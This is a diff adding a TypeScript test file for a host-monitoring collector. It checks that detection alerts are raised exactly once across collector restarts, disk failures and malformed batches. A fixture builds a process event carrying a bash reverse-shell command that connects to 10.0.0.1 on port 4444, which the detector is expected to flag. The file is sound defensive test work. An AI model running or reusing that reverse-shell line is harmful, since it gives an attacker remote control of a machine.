@@ -1,0 +1,224 @@
+/** Detection over the journal: whatever ends it half way, each alert is raised, and raised once. */
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import t, { type Test } from 'tap';
+import type { AnyEvent } from '#shared/events/registry.gen.ts';
+import { createDetector } from '../../../collector/detect/detector.ts';
+import type { PipelineOutput } from '../../../collector/ingest/messages.ts';
+import { PipelineLoop } from '../../../collector/ingest/pipeline-loop.ts';
+import { loadRules, packListsPath, packPath } from '../../../collector/rules/load.ts';
+import type { ControlStore } from '../../../collector/store/contract.ts';
+import { openControlStore } from '../../../collector/store/control/open.ts';
+import { openJournalReader, openJournalWriter } from '../../../collector/store/journal/sqlite.ts';
+import { batchOf, numbered } from '../../events.ts';
+import { tempFolder } from '../../temp.ts';
+
+const hostId = 'a'.repeat(16);
+const stream = 'b'.repeat(16);
+const { ruleSet } = await loadRules([packPath], [packListsPath]);
+
+function reverseShell(pid: number): AnyEvent {
+  return {
+    type: 'process.start',
+    time: pid * 1000,
+    'process.pid': pid,
+    'process.entity_id': `e${pid}`,
+    'process.start': pid * 1000,
+    'process.name': 'bash',
+    'process.executable': '/usr/bin/bash',
+    'process.command_line': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+  };
+}
+
+function failedLogin(at: number): AnyEvent {
+  return {
+    type: 'login',
+    time: at,
+    'event.action': 'failed',
+    'event.outcome': 'failure',
+    'user.name': 'root',
+    'source.ip': '10.9.8.7',
+    'log.source': 'auth-log',
+  };
+}
+
+interface Opened {
+  readonly loop: PipelineLoop;
+  readonly said: PipelineOutput[];
+  give(sequence: number, ...events: AnyEvent[]): void;
+  /** Ends it once everything given is done. */
+  close(): Promise<void>;
+}
+
+async function open(
+  folder: string,
+  wrap: (control: ControlStore) => ControlStore = (c) => c,
+): Promise<Opened> {
+  const journal = join(folder, 'journal.db');
+  const control = await openControlStore(join(folder, 'control.db'), { durable: false });
+  await control.hosts.add(hostId, { hostname: 'h', os: 'linux' }, 1);
+  const said: PipelineOutput[] = [];
+  const loop = new PipelineLoop({
+    writer: openJournalWriter(journal),
+    reader: openJournalReader(journal),
+    control: wrap(control),
+    makeDetector: () => createDetector(ruleSet),
+    post: (message) => said.push(message),
+  });
+  await loop.open();
+  return {
+    loop,
+    said,
+    give(sequence, ...events) {
+      const origin = { connection: 1, hostId, hostName: 'h', product: 'linux' };
+      const { data } = batchOf(...events);
+      loop.add({
+        kind: 'batch',
+        ...origin,
+        stream,
+        sequence,
+        collected: sequence,
+        receivedAt: Date.now() * 1000,
+        data,
+      });
+    },
+    close: () => loop.close(),
+  };
+}
+
+async function alertsIn(folder: string) {
+  const control = await openControlStore(join(folder, 'control.db'), { durable: false });
+  const page = await control.alerts.list({}, 100);
+  const cursor = await control.detection.cursor();
+  await control.close();
+  return { alerts: page.items, cursor };
+}
+
+async function journalOnly(folder: string, from: number, ...batches: AnyEvent[][]) {
+  const writer = openJournalWriter(join(folder, 'journal.db'));
+  await writer.append(
+    batches.map((events, i) => {
+      const { counts, minTime, maxTime, data, count } = batchOf(...events);
+      const at = Date.now() * 1000;
+      const sequence = from + i;
+      return {
+        hostId,
+        stream,
+        sequence,
+        collected: sequence,
+        stored: count,
+        lost: {},
+        counts,
+        minTime,
+        maxTime,
+        receivedAt: at,
+        data,
+      };
+    }),
+  );
+  await writer.close();
+}
+
+function raised(said: readonly PipelineOutput[]) {
+  return said.flatMap((m) => (m.kind === 'detected' ? m.alerts : []));
+}
+
+t.test('acknowledged before detected, and each alert told with its reason', async (t: Test) => {
+  const folder = tempFolder(t);
+  const { give, close, said } = await open(folder);
+  give(1, reverseShell(1), numbered(1));
+  await close();
+  const kinds = said.map((m) => m.kind);
+  t.ok(kinds.indexOf('verdicts') < kinds.indexOf('detected'));
+  const [one] = raised(said);
+  t.match(one, { isNew: true, alert: { ruleTitle: 'Reverse shell', level: 'high', count: 1 } });
+  t.match(one?.alert.reason, '/dev/tcp/');
+});
+
+t.test(
+  'what was stored and not detected when the collector died is detected at the next start, once',
+  async (t) => {
+    const folder = tempFolder(t);
+    await journalOnly(folder, 1, [reverseShell(1)], [numbered(1)], [reverseShell(2)]);
+    for (let start = 0; start < 3; start++) {
+      const { close, said } = await open(folder);
+      await close();
+      t.equal(raised(said).length, start === 0 ? 2 : 0);
+    }
+    const { alerts, cursor } = await alertsIn(folder);
+    t.strictSame(
+      alerts.map((a) => a.count),
+      [1, 1],
+    );
+    t.equal(cursor, 3);
+  },
+);
+
+t.test('a correlation goes on over a restart in the middle of its window', async (t) => {
+  const folder = tempFolder(t);
+  const now = Date.now() * 1000;
+  const failures = (from: number, n: number) =>
+    Array.from({ length: n }, (_, i) => failedLogin(now - 20e6 + (from + i) * 1e6));
+  const first = await open(folder);
+  first.give(1, ...failures(0, 3));
+  await first.close();
+  t.equal(raised(first.said).length, 0);
+  const second = await open(folder);
+  second.give(2, ...failures(3, 3));
+  await second.close();
+  t.equal(raised(second.said).length, 1);
+  t.match(raised(second.said)[0]?.alert.ruleTitle, /failed/i);
+});
+
+t.test(
+  'while alerts cannot be recorded, batches are stored all the same and detected later, once',
+  async (t) => {
+    const folder = tempFolder(t);
+    let isRefusing = true;
+    const { give, close, said } = await open(folder, (control) => ({
+      ...control,
+      detection: {
+        cursor: () => control.detection.cursor(),
+        // The real store behind a disk that refuses for a while.
+        commit: (cursor, alerts) =>
+          isRefusing ? Promise.reject(new Error('disk full')) : control.detection.commit(cursor, alerts),
+      },
+    }));
+    give(1, reverseShell(1));
+    await sleep(100);
+    give(2, reverseShell(2));
+    await sleep(100);
+    t.equal(
+      said
+        .filter((m) => m.kind === 'verdicts')
+        .flatMap((m) => m.verdicts)
+        .filter((v) => v.outcome === 'stored').length,
+      2,
+    );
+    t.ok(said.some((m) => m.kind === 'problem'));
+    isRefusing = false;
+    while (raised(said).length < 2) await sleep(50);
+    give(3, reverseShell(3));
+    await close();
+    t.equal(raised(said).length, 3);
+    const { alerts } = await alertsIn(folder);
+    t.strictSame(
+      alerts.map((a) => a.count),
+      [1, 1, 1],
+    );
+  },
+);
+
+t.test('batches that are wrong get their verdict, and their neighbours theirs', async (t) => {
+  const folder = tempFolder(t);
+  const { loop, give, close, said } = await open(folder);
+  const origin = { connection: 1, hostId, hostName: 'h', product: 'linux', stream: 'c'.repeat(16) };
+  loop.add({ kind: 'batch', ...origin, sequence: 1, collected: 1, receivedAt: 1, data: new Uint8Array([9]) });
+  give(1, numbered(1));
+  give(5, numbered(1));
+  await close();
+  const verdicts = said.flatMap((m) => (m.kind === 'verdicts' ? m.verdicts : []));
+  t.match(verdicts[0]?.outcome, { code: 'wire.batch_malformed' });
+  t.equal(verdicts[1]?.outcome, 'stored');
+  t.match(verdicts[2]?.outcome, { code: 'wire.sequence_gap' });
+});
